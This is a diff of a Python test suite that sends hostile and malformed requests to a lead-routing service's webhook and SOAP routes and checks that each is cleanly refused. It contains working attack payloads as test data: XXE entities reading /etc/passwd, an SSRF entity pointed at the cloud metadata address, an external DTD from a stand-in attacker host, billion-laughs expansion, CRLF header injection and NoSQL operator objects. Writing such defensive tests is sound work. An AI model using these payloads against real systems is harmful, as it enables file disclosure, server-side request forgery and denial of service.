@@ -1,8 +1,8 @@
 """A corpus of hostile and malformed requests against every HTTP route.
 
 Each refusal must be a 4xx with a clear error (the JSON error body; a SOAP fault for
-Salesforce; the small HTML page for one-click links), come back in well under two
-seconds, and write nothing: no lead, execution, email or disposition, and no change to
+Salesforce; the small HTML page, or the JSON body, for one-click links), come back in
+well under two seconds, and write nothing: no lead, execution, email or disposition, and no change to
 a lead that already exists. The markup family is the exception: a signed lead carrying
 HTML or script may be accepted, because text is stored as data and escaped on output,
 so those cases check the escaping instead.
@@ -37,7 +37,7 @@ from handoff.local import lambdas
 from handoff.local.http_front import build_event, match
 from handoff.local.provision import table_name
 from handoff.store.tables import DISPOSITIONS, REPS
-from handoff.webhooks.hubspot_signature import sign_v1, sign_v2, sign_v3
+from handoff.webhooks.hubspot_signature import sign_v3
 from handoff.webhooks.signature import sign_generic
 from tests.conftest import EXAMPLES, sample
 from tests.integration.conftest import SECRETS, Aws, rep, use_config
@@ -88,7 +88,7 @@ Headers = dict[str, str] | Callable[[bytes], dict[str, str]]
 class Case:
     method: str
     path: str | Callable[[Ctx], str]  # "{lead}" stands for the lead made before the baseline
-    body: bytes | Callable[[Ctx], bytes] = b""
+    body: bytes = b""
     headers: Headers = field(default_factory=dict)  # a callable signs the body at send time
     status: int | tuple[int, ...] = 400
     says: str | tuple[str, ...] = ""  # the message names what was wrong (any one of these)
@@ -96,7 +96,7 @@ class Case:
 
     @property
     def needs_lead(self) -> bool:
-        return callable(self.path) or callable(self.body) or "{lead}" in self.path
+        return callable(self.path) or "{lead}" in self.path
 
 
 @dataclass(frozen=True)
@@ -109,14 +109,15 @@ class Answer:
 
 def send(case: Case, ctx: Ctx) -> Answer:
     path = case.path(ctx) if callable(case.path) else case.path.replace("{lead}", ctx.lead_id)
-    body = case.body(ctx) if callable(case.body) else case.body
-    headers = case.headers(body) if callable(case.headers) else dict(case.headers)
+    headers = case.headers(case.body) if callable(case.headers) else dict(case.headers)
     found = match(case.method, path.split("?", maxsplit=1)[0])
     if found is None:
         assert case.function, f"no route {case.method} {path}"
         found = (Route(case.method, path.split("?", maxsplit=1)[0], case.function), {})
     route, params = found
-    event = build_event(route, params=params, method=case.method, raw_path=path, headers=headers, body=body)
+    event = build_event(
+        route, params=params, method=case.method, raw_path=path, headers=headers, body=case.body
+    )
     started = time.perf_counter()
     try:
         result = lambdas.invoke(route.function, event)
@@ -143,9 +144,7 @@ def snapshot(aws: Aws, lead_id: str) -> dict[str, Any]:
         "executions": sorted((e["name"], e["status"]) for e in aws.executions()),
         "emails": len(aws.sent_emails()),
         "dispositions": count(DISPOSITIONS),
-        "reps": sorted(
-            boto3.client("dynamodb").scan(TableName=table_name(REPS))["Items"], key=lambda i: str(i)
-        ),
+        "reps": sorted(boto3.client("dynamodb").scan(TableName=table_name(REPS))["Items"], key=str),
         "lead": runtime.leads().get_item(lead_id) if lead_id else None,
     }
 
@@ -157,14 +156,16 @@ def assert_clear_refusal(case: Case, answer: Answer) -> None:
     expected = case.status if isinstance(case.status, tuple) else (case.status,)
     assert answer.status in expected, shown
     path = case.path if isinstance(case.path, str) else "/d/"
+    if case.function:  # no route matched: the resolver's own JSON 404
+        path = "/unrouted"
     if path.startswith("/webhooks/salesforce"):
         assert answer.content_type.startswith("text/xml"), shown
         fault = re.search(r"<faultstring>(.*?)</faultstring>", answer.text, re.DOTALL)
         assert fault and fault.group(1).strip(), shown
         message = fault.group(1)
-    elif path.startswith("/d/"):
-        # The one-click pages answer a person in a browser: a small HTML page, not JSON.
-        assert answer.content_type.startswith("text/html"), shown
+    elif path.startswith("/d/") and answer.content_type.startswith("text/html"):
+        # The one-click pages answer a person in a browser with a small page; a request the
+        # resolver cannot even read gets the JSON error body below.
         heading = re.search(r"<h1[^>]*>(.*?)</h1>\s*<p[^>]*>(.*?)</p>", answer.text, re.DOTALL)
         assert heading and heading.group(1).strip() and heading.group(2).strip(), shown
         message = heading.group(2)
@@ -326,110 +327,60 @@ def link(
 
 # --- the families ------------------------------------------------------------------------------
 
-BUG_DISPOSITION_UTF8 = (
-    "POST /leads/{id}/disposition with invalid UTF-8 crashes (UnicodeDecodeError in Powertools' "
-    "json_body) instead of a 400"
-)
-BUG_DISPOSITION_DEPTH = (
-    "POST /leads/{id}/disposition with deeply nested JSON crashes (RecursionError in Powertools' "
-    "json_body; the route skips handoff.api.requests.parse_json and its depth limit) instead of a 400"
-)
-BUG_NO_SIZE_LIMIT = (
-    "the disposition function has no body size limit (it never calls raw_body): a 1 MB+1 body is "
-    "parsed and the disposition recorded instead of a 413"
-)
-BUG_HUGE_NUMBER = (
-    "a number DynamoDB cannot hold (>38 digits or >1e125) passes validation and crashes the store "
-    "(decimal.Inexact/Overflow in handoff.store.dynamo) instead of a 400 naming the field"
-)
+NESTED_OBJECTS = b'{"a":' * 10_000 + b"1" + b"}" * 10_000
 
 
 def json_syntax() -> Iterator[ParameterSet]:
     """Bodies that are not the JSON object the route reads."""
-    truncated = dumps(LEAD)[:60]
     for name, body, says in [
-        ("truncated", truncated, "not valid JSON"),
-        ("trailing-garbage", dumps(LEAD) + b"}{", "not valid JSON"),
+        ("truncated", dumps(LEAD)[:60], "not valid JSON"),
         ("utf8-bom", b"\xef\xbb\xbf" + dumps(LEAD), "not valid JSON"),
-        ("single-quotes", b"{'event_id': 'e1'}", "not valid JSON"),
         ("nested-10000-arrays", nested(10_000), "nested deeper"),
-        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "nested deeper"),
+        ("nested-10000-objects", NESTED_OBJECTS, "nested deeper"),
         ("nested-33-in-a-field", dumps(lead_with("contact.x", json.loads(nested(33)))), "nested deeper"),
         ("array", dumps([LEAD]), "must be a JSON object, not list"),
         ("number", b"42", "must be a JSON object, not int"),
-        ("string", b'"lead"', "must be a JSON object, not str"),
         ("null", b"null", "must be a JSON object, not NoneType"),
-        ("true", b"true", "must be a JSON object, not bool"),
         ("empty-object", b"{}", "invalid lead: event_id, contact, trigger"),
-        ("dup-key-last-wins-wrong-type", dumps(LEAD)[:-1] + b', "contact": "me"}', "contact"),
-        (
-            "dup-key-event-id-int",
-            b'{"event_id": "e1", "event_id": 7,' + dumps(LEAD)[1:].replace(b'"event_id": "evt-1001", ', b""),
-            "event_id",
-        ),
+        ("dup-key-contact-string", dumps(LEAD)[:-1] + b', "contact": "me"}', "contact"),
+        ("dup-key-event-id-int", dumps(LEAD)[:-1] + b', "event_id": 7}', "event_id"),
     ]:
         yield generic(f"json-generic-{name}", body, says)
     for name, body, says in [
         ("truncated", dumps(HUBSPOT_CONTACT)[:80], "not valid JSON"),
         ("nested-10000-arrays", nested(10_000), "nested deeper"),
-        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "nested deeper"),
         ("number", b"42", "contact object or an event array, not int"),
-        ("null", b"null", "contact object or an event array, not NoneType"),
         ("array-of-arrays", b"[[1]]", "invalid HubSpot event"),
-        ("array-of-nulls", b"[null]", "invalid HubSpot event"),
-        (
-            "dup-key-properties",
-            dumps(HUBSPOT_CONTACT)[:-1] + b', "properties": "oops"}',
-            "properties must be an object",
-        ),
+        ("dup-key-properties", dumps(HUBSPOT_CONTACT)[:-1] + b', "properties": "x"}', "must be an object"),
     ]:
         yield hubspot(f"json-hubspot-{name}", body, says)
     for name, body, says, bug in [
         ("truncated", b'{"outcome": "conn', "invalid request", None),
-        ("nested-10000-arrays", nested(10_000), "", BUG_DISPOSITION_DEPTH),
-        ("nested-10000-objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "", BUG_DISPOSITION_DEPTH),
-        ("array", b'[{"outcome": "connected"}]', "invalid request", None),
-        ("string", b'"connected"', "invalid request", None),
+        ("nested-10000-arrays", nested(10_000), "", None),
+        ("nested-10000-objects", NESTED_OBJECTS, "", None),
+        ("array", b'[{"outcome": "connected"}]', ("invalid request", "object"), None),
         ("null", b"null", "invalid request", None),
         ("dup-key-outcome", b'{"outcome": "connected", "outcome": "won"}', "outcome must be one of", None),
     ]:
         yield dispose(f"json-disposition-{name}", body, says, bug=bug)
 
 
-def non_finite_and_huge_numbers() -> Iterator[ParameterSet]:
-    """NaN and Infinity are not JSON; numbers must fit what the store can hold."""
-    bug_inf = (
-        "NaN/Infinity literals are accepted (json.loads allows them; Company.annual_revenue has no upper "
-        "bound): Infinity qualifies the lead ('Revenue inf is in the ICP range') and the lead is written"
-    )
+def numbers() -> Iterator[ParameterSet]:
+    """NaN and Infinity are not JSON; a number must fit what the store can hold."""
     for name, dotted, literal, says, bug in [
         ("score-nan", "score", "NaN", ("score", "JSON"), None),
-        ("score-infinity", "score", "Infinity", ("score", "JSON"), None),
         ("revenue-nan", "company.annual_revenue", "NaN", ("annual_revenue", "JSON"), None),
-        ("revenue-infinity", "company.annual_revenue", "Infinity", ("annual_revenue", "JSON"), bug_inf),
-        ("employees-minus-infinity", "company.employees", "-Infinity", ("employees", "JSON"), None),
+        ("revenue-infinity", "company.annual_revenue", "Infinity", ("annual_revenue", "JSON"), None),
+        ("employees-100-digits", "company.employees", "9" * 100, "employees", None),
+        ("employees-5000-digits", "company.employees", "9" * 5000, ("employees", "digits"), None),
+        ("revenue-1e300", "company.annual_revenue", "1e300", "annual_revenue", None),
     ]:
         body = json.dumps(lead_with(dotted, "@@")).replace('"@@"', literal).encode()
         yield generic(f"number-generic-{name}", body, says, bug=bug)
-    for name, dotted, literal, says in [
-        ("employees-100-digits", "company.employees", "9" * 100, "employees"),
-        ("employees-5000-digits", "company.employees", "9" * 5000, ("employees", "JSON")),
-        ("revenue-1e300", "company.annual_revenue", "1e300", "annual_revenue"),
-    ]:
-        body = json.dumps(lead_with(dotted, "@@")).replace('"@@"', literal).encode()
-        yield generic(f"number-generic-{name}", body, says, bug=BUG_HUGE_NUMBER)
-    yield hubspot(
-        "number-hubspot-employees-1e100",
-        hubspot_with("numberofemployees", "1e100"),
-        "employees",
-        bug=BUG_HUGE_NUMBER,
-    )
-    yield salesforce(
-        "number-salesforce-revenue-1e300",
-        outbound("<sf:AnnualRevenue>42000000<", "<sf:AnnualRevenue>1e300<"),
-        "annual_revenue",
-        bug=BUG_HUGE_NUMBER,
-    )
+    employees = hubspot_with("numberofemployees", "1e100")
+    yield hubspot("number-hubspot-employees-1e100", employees, "employees")
+    revenue = outbound("<sf:AnnualRevenue>42000000<", "<sf:AnnualRevenue>1e300<")
+    yield salesforce("number-salesforce-revenue-1e300", revenue, "annual_revenue")
     yield dispose("number-disposition-outcome-nan", b'{"outcome": NaN}', "outcome")
 
 
@@ -437,200 +388,114 @@ def wrong_types() -> Iterator[ParameterSet]:
     """Well-formed JSON whose fields have the wrong type or an impossible value."""
     for name, dotted, value in [
         ("contact-string", "contact", "jordan@northwind.example"),
-        ("contact-null", "contact", None),
         ("contact-missing", "contact", ...),
         ("email-number", "contact.email", 42),
         ("email-not-an-address", "contact.email", "jordan at northwind"),
         ("email-with-markup", "contact.email", f"{SCRIPT}@northwind.example"),
         ("email-header-injection", "contact.email", "jo@northwind.example\r\nBcc: all@corp.example"),
-        ("email-list", "contact.email", ["a@northwind.example"]),
         ("employees-lots", "company.employees", "lots"),
-        ("employees-negative", "company.employees", -5),
-        ("employees-fraction", "company.employees", 3.5),
-        ("revenue-string", "company.annual_revenue", "a lot"),
-        ("company-array", "company", ["Northwind"]),
         ("activities-object", "activities", {"type": "page_view"}),
-        ("activities-numbers", "activities", [1, 2]),
         ("activity-without-type", "activities.0.type", ...),
-        ("activity-at-not-a-date", "activities.0.at", "last tuesday"),
-        ("trigger-string", "trigger", "demo_request"),
         ("trigger-type-blank", "trigger.type", "   "),
-        ("event-id-empty", "event_id", ""),
         ("event-id-object", "event_id", {"$ne": None}),
-        ("occurred-at-not-a-date", "occurred_at", "9999-99-99"),
-        ("score-negative", "score", -1),
-        ("crm-string", "crm", "hubspot"),
-        ("open-opportunity-maybe", "crm.open_opportunity", "maybe"),
-        ("phone-65-chars", "contact.phone", "1" * 65),
     ]:
         yield generic(f"type-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
     no_canonical = {k: v for k, v in HUBSPOT_CONTACT.items() if k != "canonical-vid"}
     for name, body, says in [
         ("email-number", hubspot_with("email", 42), "contact.email"),
-        ("email-list", hubspot_with("email", ["dana@tallyhq.example"]), "contact.email"),
         ("vid-object", {**no_canonical, "vid": {"$gt": 0}}, "no vid"),
         ("properties-array", {**HUBSPOT_CONTACT, "properties": []}, "properties must be an object"),
         ("event-id-object", [{**HUBSPOT_EVENT, "eventId": {"$gt": 0}}], "invalid HubSpot event"),
-        ("event-occurred-at-text", [{**HUBSPOT_EVENT, "occurredAt": "yesterday"}], "occurredAt"),
-        (
-            "event-subscription-101-chars",
-            [{**HUBSPOT_EVENT, "subscriptionType": "x" * 101}],
-            "subscriptionType",
-        ),
     ]:
         yield hubspot(f"type-hubspot-{name}", body, says)
 
 
 def sizes() -> Iterator[ParameterSet]:
-    """Too long, too many, too large."""
+    """Too long, too many, too large: 1 MB+1 on every POST route is a 413."""
     big = "x" * 100_000
     for name, dotted, value in [
         ("title-100kb", "contact.title", big),
-        ("trigger-name-100kb", "trigger.name", big),
-        ("event-id-10kb", "event_id", "e" * 10_000),
         ("activity-url-100kb", "activities.0.url", "https://example.com/" + big),
         ("activities-201", "activities", [{"type": "page_view"}] * 201),
     ]:
         yield generic(f"size-generic-{name}", lead_with(dotted, value), dotted.split(".")[0])
-    bug_item = (
-        "a signed lead under 1 MB whose record exceeds DynamoDB's 400 KB item limit gets "
-        "503 'retry' (the sender retries forever) instead of a 413/400"
-    )
     yield generic(
         "size-generic-record-over-400kb",
         lead_with("activities", [{"type": "page_view", "url": "https://example.com/" + "a" * 2000}] * 200),
         ("too large", "limit", "activities"),
         status=(400, 413),
-        bug=bug_item,
     )
     yield generic("size-generic-1mb-plus-1", padded(dumps(LEAD)), "limit", status=413)
-    yield generic("size-generic-unsigned-1mb-plus-1", padded(dumps(LEAD)), "limit", status=413, headers={})
     yield hubspot("size-hubspot-1mb-plus-1", padded(dumps(HUBSPOT_CONTACT)), "limit", status=413)
     yield hubspot("size-hubspot-101-events", [HUBSPOT_EVENT] * 101, "1 to 100 events, not 101")
     yield hubspot("size-hubspot-email-100kb", hubspot_with("email", big + "@x.example"), "contact.email")
     yield salesforce("size-salesforce-1mb-plus-1", padded(outbound()), "limit", status=413)
-    yield dispose(
-        "size-disposition-1mb-plus-1",
-        padded(b'{"outcome": "connected"}'),
-        "limit",
-        status=413,
-        bug=BUG_NO_SIZE_LIMIT,
-    )
-    yield link(
-        "size-link-post-1mb-plus-1",
-        "POST",
-        lambda ctx: ctx.token(),
-        413,
-        "limit",
-        body=padded(b"note=hi&pad=", TOO_BIG - 1) + b"x",
-        bug=BUG_NO_SIZE_LIMIT,
-    )
-
-
-BILLION_LAUGHS_PE = (
-    '<!DOCTYPE lolz [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">'
-    '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;"><!ENTITY lol "%c;">]>'
-)
+    body = padded(b'{"outcome": "connected"}')
+    yield dispose("size-disposition-1mb-plus-1", body, "limit", status=413)
+    body = padded(b"note=hi&pad=", TOO_BIG - 1) + b"x"
+    yield link("size-link-post-1mb-plus-1", "POST", Ctx.token, 413, "limit", body=body)
 
 
 def xml_attacks() -> Iterator[ParameterSet]:
-    """Entity expansion, external entities, wrong envelopes, non-XML, for the SOAP endpoint."""
+    """Entity expansion, external entities, wrong envelopes and non-XML, against the SOAP route."""
     refused = "DTD or entities is refused"
+    address = "sam.rivera@meridian.example<"
     chain = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
-    billion = outbound("sam.rivera@meridian.example<", "&l9;<", f'<!DOCTYPE e [<!ENTITY l0 "lol">{chain}]>')
-    quadratic = outbound(
-        "<sf:FirstName>Sam<",
-        "<sf:FirstName>" + "&a;" * 20_000 + "<",
-        f'<!DOCTYPE e [<!ENTITY a "{"a" * 50_000}">]>',
+    parameter_chain = (
+        '<!DOCTYPE e [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;%a;%a;">'
+        '<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;%b;%b;"><!ENTITY lol "%c;">]>'
     )
+    quadratic = f'<!DOCTYPE e [<!ENTITY a "{"a" * 50_000}">]>'
     for name, body, says in [
-        ("billion-laughs-in-email", billion, refused),
-        ("billion-laughs-parameter-entities", outbound(doctype=BILLION_LAUGHS_PE), refused),
-        ("quadratic-blowup", quadratic, refused),
+        (
+            "billion-laughs-in-email",
+            outbound(address, "&l9;<", f'<!DOCTYPE e [<!ENTITY l0 "lol">{chain}]>'),
+            refused,
+        ),
+        ("billion-laughs-parameter-entities", outbound(doctype=parameter_chain), refused),
+        ("quadratic-blowup", outbound("Sam<", "&a;" * 20_000 + "<", quadratic), refused),
         (
             "xxe-passwd-in-email",
-            outbound(
-                "sam.rivera@meridian.example<",
-                "&xxe;<",
-                '<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
-            ),
+            outbound(address, "&x;<", '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
             refused,
         ),
         (
             "xxe-parameter-entity",
-            outbound(doctype='<!DOCTYPE e [<!ENTITY % xxe SYSTEM "file:///etc/passwd"> %xxe;]>'),
+            outbound(doctype='<!DOCTYPE e [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>'),
             refused,
         ),
         (
-            "xxe-ssrf-metadata",
-            outbound(
-                "<sf:FirstName>Sam<",
-                "<sf:FirstName>&m;<",
-                '<!DOCTYPE e [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
-            ),
+            "xxe-ssrf-instance-metadata",
+            outbound("Sam<", "&m;<", '<!DOCTYPE e [<!ENTITY m SYSTEM "http://169.254.169.254/latest/">]>'),
             refused,
         ),
         (
-            "external-dtd-system",
+            "external-dtd",
             outbound(doctype='<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">'),
             refused,
         ),
-        (
-            "external-dtd-public",
-            outbound(doctype='<!DOCTYPE e PUBLIC "-//EVIL//DTD//EN" "file:///etc/passwd">'),
-            refused,
-        ),
-        ("empty-doctype", outbound(doctype="<!DOCTYPE e []>"), refused),
         ("101-notifications", notifications(101), "1 to 100 notifications, not 101"),
-        ("0-notifications", notifications(0), "1 to 100 notifications, not 0"),
         (
             "envelope-without-body",
             b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
-            "SOAP Envelope",
+            "SOAP",
         ),
-        (
-            "body-without-notifications",
-            outbound("<notifications", "<other").replace(b"</notifications>", b"</other>"),
-            "SOAP Envelope",
-        ),
-        (
-            "bare-notifications",
-            b"<notifications><OrganizationId>x</OrganizationId></notifications>",
-            "SOAP Envelope",
-        ),
-        ("html-page", b"<html><body><h1>hi</h1></body></html>", "SOAP Envelope"),
-        ("json-body", dumps(LEAD), "not well-formed XML"),
-        ("plain-text", b"hello salesforce", "not well-formed XML"),
-        ("whitespace-only", b"   \n ", "not well-formed XML"),
+        ("body-without-notifications", outbound().replace(b"notifications", b"other"), "SOAP Envelope"),
         ("nul-byte", outbound("Sam<", "S\x00am<"), "not well-formed XML"),
-        ("unclosed-tags", outbound()[:400], "not well-formed XML"),
         ("nested-100000-elements", b"<a>" * 100_000 + b"</a>" * 100_000, "SOAP Envelope"),
         (
             "organization-id-missing",
-            outbound("<OrganizationId>00D5g000004ABCDEAZ</OrganizationId>", ""),
+            outbound("<OrganizationId>00D5g000004ABCDEAZ</OrganizationId>"),
             "OrganizationId",
         ),
-        (
-            "notification-without-id",
-            outbound("<Id>04l5g00000AAAA1AAA</Id>", ""),
-            "needs an Id and an sObject",
-        ),
-        ("sobject-account", outbound('xsi:type="sf:Lead"', 'xsi:type="sf:Account"'), "not Lead or Contact"),
-        (
-            "email-with-markup",
-            outbound("sam.rivera@meridian.example<", "&lt;script&gt;@x.example<"),
-            "contact.email",
-        ),
+        ("email-with-markup", outbound(address, "&lt;script&gt;@x.example<"), "contact.email"),
     ]:
         yield salesforce(f"xml-salesforce-{name}", body, says)
 
 
 def invalid_utf8() -> Iterator[ParameterSet]:
     """Bytes that are not UTF-8, on every POST route."""
-    bad = dumps(LEAD).replace(b"Jordan", b"Jor\xffdan")
-    yield generic("utf8-generic-bad-byte-in-name", bad, "not valid UTF-8")
-    yield generic("utf8-generic-overlong-slash", b'{"event_id": "\xc0\xaf"}', "not valid UTF-8")
-    yield generic("utf8-generic-surrogate-bytes", b'{"event_id": "\xed\xa0\x80"}', "not valid UTF-8")
+    yield generic("utf8-generic-bad-byte", dumps(LEAD).replace(b"Jordan", b"Jor\xffdan"), "not valid UTF-8")
     yield generic("utf8-generic-utf16-body", json.dumps(LEAD).encode("utf-16"), "not valid UTF-8")
     yield hubspot(
         "utf8-hubspot-bad-byte", dumps(HUBSPOT_CONTACT).replace(b"Dana", b"D\x80ana"), "not valid UTF-8"
@@ -638,31 +503,36 @@ def invalid_utf8() -> Iterator[ParameterSet]:
     yield salesforce(
         "utf8-salesforce-bad-byte", outbound().replace(b"Sam<", b"S\xffam<"), "not well-formed XML"
     )
-    yield dispose(
-        "utf8-disposition-bad-byte", b'{"outcome": "conn\xffected"}', "UTF-8", bug=BUG_DISPOSITION_UTF8
-    )
-    yield link(
-        "utf8-link-post-bad-byte",
-        "POST",
-        lambda ctx: ctx.token(),
-        400,
-        "UTF-8",
-        body=b"note=\xff\xfe",
-        bug="POST /d/{token} with an invalid UTF-8 body crashes (UnicodeDecodeError in decoded_body) "
-        "instead of a 400 page",
-    )
+    body = b'{"outcome": "conn\xffected"}'
+    yield dispose("utf8-disposition-bad-byte", body, "UTF-8")
+    yield link("utf8-link-post-bad-byte", "POST", Ctx.token, 400, "UTF-8", body=b"note=\xff\xfe")
 
 
 def headers_and_content_types() -> Iterator[ParameterSet]:
     """Header injection, wrong or missing Content-Type, empty bodies."""
     crlf = "\r\nX-Injected: yes"
     body = dumps(LEAD)
+
+    def hubspot_with_header(name: str, suffix: str) -> Callable[[bytes], dict[str, str]]:
+        def headers(data: bytes) -> dict[str, str]:
+            signed = hubspot_signed(data)
+            return signed | {name: signed[name] + suffix}
+
+        return headers
+
+    def generic_with_type(content_type: str) -> Callable[[bytes], dict[str, str]]:
+        def headers(data: bytes) -> dict[str, str]:
+            signed = generic_signed(data) | {"Content-Type": content_type}
+            return {k: v for k, v in signed.items() if v}
+
+        return headers
+
     yield generic(
         "header-generic-crlf-in-signature",
         body,
         "does not match",
         status=401,
-        headers=lambda b: generic_signed(b, extra=crlf),
+        headers=lambda data: generic_signed(data, extra=crlf),
     )
     yield generic(
         "header-generic-crlf-in-bearer",
@@ -671,80 +541,35 @@ def headers_and_content_types() -> Iterator[ParameterSet]:
         status=401,
         headers={"Authorization": f"Bearer {SECRETS['HANDOFF_GENERIC_TOKEN']}{crlf}"},
     )
-    yield generic(
-        "header-generic-nul-in-signature",
-        body,
-        "X-Handoff-Signature",
-        status=401,
-        headers=lambda b: generic_signed(b, extra="\x00"),
-    )
+    timestamp = hubspot_with_header("X-HubSpot-Request-Timestamp", crlf)
     yield hubspot(
-        "header-hubspot-crlf-in-timestamp",
-        HUBSPOT_CONTACT,
-        "X-HubSpot-Request-Timestamp",
-        status=401,
-        headers=lambda b: (
-            (h := hubspot_signed(b))
-            | {"X-HubSpot-Request-Timestamp": h["X-HubSpot-Request-Timestamp"] + crlf}
-        ),
+        "header-hubspot-crlf-in-timestamp", HUBSPOT_CONTACT, "milliseconds", status=401, headers=timestamp
     )
+    signature = hubspot_with_header("X-HubSpot-Signature-v3", crlf)
     yield hubspot(
-        "header-hubspot-crlf-in-signature",
-        HUBSPOT_CONTACT,
-        "does not match",
-        status=401,
-        headers=lambda b: (
-            (h := hubspot_signed(b)) | {"X-HubSpot-Signature-v3": h["X-HubSpot-Signature-v3"] + crlf}
-        ),
+        "header-hubspot-crlf-in-signature", HUBSPOT_CONTACT, "does not match", status=401, headers=signature
     )
-    yield salesforce(
-        "header-salesforce-crlf-in-token",
-        outbound(),
-        "token",
-        status=401,
-        path=f"{SALESFORCE}%0D%0AX-Injected:%20yes",
-    )
+    path = f"{SALESFORCE}%0D%0AX-Injected:%20yes"
+    yield salesforce("header-salesforce-crlf-in-token", outbound(), "token", status=401, path=path)
+    ok = {"outcome": "connected"}
     yield dispose(
-        "header-disposition-crlf-in-api-key",
-        {"outcome": "connected"},
-        "x-api-key",
-        status=401,
-        headers=with_key(API_KEY + crlf),
+        "header-disposition-crlf-in-api-key", ok, "x-api-key", status=401, headers=with_key(API_KEY + crlf)
     )
     multipart = b'--b\r\nContent-Disposition: form-data; name="lead"\r\n\r\n' + body + b"\r\n--b--\r\n"
     for name, content_type, data in [
         ("text-plain", "text/plain", b"Jordan Lee wants a demo"),
         ("multipart", "multipart/form-data; boundary=b", multipart),
-        ("form-urlencoded", "application/x-www-form-urlencoded", b"event_id=e1&contact=jordan"),
         ("missing", "", b"event_id=e1"),
     ]:
-        signed = (lambda ct: lambda b: generic_signed(b) | {"Content-Type": ct})(content_type)
-        if not content_type:
-            signed = lambda b: {k: v for k, v in generic_signed(b).items() if k != "Content-Type"}  # noqa: E731
-        yield generic(f"content-type-generic-{name}", data, "not valid JSON", headers=signed)
-    yield hubspot(
-        "content-type-hubspot-multipart",
-        multipart,
-        "not valid JSON",
-        headers=lambda b: hubspot_signed(b) | {"Content-Type": "multipart/form-data; boundary=b"},
-    )
+        yield generic(
+            f"content-type-generic-{name}", data, "not valid JSON", headers=generic_with_type(content_type)
+        )
+    multipart_xml = {"Content-Type": "multipart/form-data; boundary=b"}
     yield salesforce(
-        "content-type-salesforce-multipart",
-        multipart,
-        "not well-formed XML",
-        headers={"Content-Type": "multipart/form-data; boundary=b"},
-    )
-    yield salesforce(
-        "content-type-salesforce-json",
-        dumps(LEAD),
-        "not well-formed XML",
-        headers={"Content-Type": "application/json"},
+        "content-type-salesforce-multipart", multipart, "not well-formed XML", headers=multipart_xml
     )
     yield dispose(
-        "content-type-disposition-form",
-        b"outcome=connected",
-        "invalid request",
-        headers=with_key() | FORM,
+        "content-type-disposition-form", b"outcome=connected", "invalid request", headers=with_key() | FORM
     )
     yield generic("empty-generic-signed", b"", "body is empty")
     yield generic("empty-generic-unsigned", b"", "body is empty", headers={})
@@ -755,63 +580,32 @@ def headers_and_content_types() -> Iterator[ParameterSet]:
 
 def bad_auth() -> Iterator[ParameterSet]:
     """Missing, wrong, stale and future credentials on every authenticated route."""
-    body = dumps(LEAD)
     for name, headers, says in [
         ("none", {"Content-Type": "application/json"}, "missing X-Handoff-Signature"),
         ("garbage", {"X-Handoff-Signature": "garbage"}, "must look like"),
-        ("empty-v1", {"X-Handoff-Signature": f"t={int(time.time())},v1="}, "must look like"),
-        ("millisecond-timestamp", {"X-Handoff-Signature": "t=1700000000000,v1=ab"}, "must look like"),
-        ("wrong-secret", lambda b: generic_signed(b, secret="wrong"), "does not match"),
-        ("stale-10-minutes", lambda b: generic_signed(b, skew=-600), "replay window"),
-        ("future-10-minutes", lambda b: generic_signed(b, skew=600), "replay window"),
-        ("over-another-body", lambda b: generic_signed(b + b" "), "does not match"),
-        (
-            "timestamp-swapped",
-            lambda b: {
-                "X-Handoff-Signature": re.sub(
-                    r"t=\d+", f"t={int(time.time()) - 1}", generic_signed(b)["X-Handoff-Signature"]
-                )
-            },
-            "does not match",
-        ),
+        ("wrong-secret", lambda data: generic_signed(data, secret="wrong"), "does not match"),
+        ("stale-10-minutes", lambda data: generic_signed(data, skew=-600), "replay window"),
+        ("future-10-minutes", lambda data: generic_signed(data, skew=600), "replay window"),
+        ("over-another-body", lambda data: generic_signed(data + b" "), "does not match"),
         ("wrong-bearer", {"Authorization": "Bearer not-the-token"}, "bearer token is not valid"),
-        (
-            "basic-scheme",
-            {"Authorization": "Basic " + base64.b64encode(b"a:b").decode()},
-            "missing X-Handoff-Signature",
-        ),
     ]:
-        yield generic(f"auth-generic-{name}", body, says, status=401, headers=headers)
+        yield generic(f"auth-generic-{name}", dumps(LEAD), says, status=401, headers=headers)
     contact = dumps(HUBSPOT_CONTACT)
     for name, headers, says in [
         ("none", {"Content-Type": "application/json"}, "missing X-HubSpot-Signature"),
-        ("v3-wrong-secret", lambda b: hubspot_signed(b, secret="wrong"), "does not match"),
-        ("v3-stale-10-minutes", lambda b: hubspot_signed(b, skew_ms=-600_000), "replay window"),
-        ("v3-future-10-minutes", lambda b: hubspot_signed(b, skew_ms=600_000), "replay window"),
-        (
-            "v3-timestamp-seconds-text",
-            lambda b: hubspot_signed(b) | {"X-HubSpot-Request-Timestamp": "now"},
-            "milliseconds",
-        ),
-        ("v3-over-another-body", lambda b: hubspot_signed(b, signed_body=b"{}"), "does not match"),
+        ("v3-wrong-secret", lambda data: hubspot_signed(data, secret="wrong"), "does not match"),
+        ("v3-stale-10-minutes", lambda data: hubspot_signed(data, skew_ms=-600_000), "replay window"),
+        ("v3-future-10-minutes", lambda data: hubspot_signed(data, skew_ms=600_000), "replay window"),
+        ("v3-over-another-body", lambda data: hubspot_signed(data, signed_body=b"{}"), "does not match"),
         (
             "v3-other-uri",
-            lambda b: hubspot_signed(b, uri="https://attacker.example/webhooks/hubspot"),
-            "does not match",
-        ),
-        ("v1-wrong", {"X-HubSpot-Signature": sign_v1("wrong", contact)}, "does not match"),
-        (
-            "v2-wrong",
-            {
-                "X-HubSpot-Signature": sign_v2("wrong", "POST", HUBSPOT_URI, contact),
-                "X-HubSpot-Signature-Version": "v2",
-            },
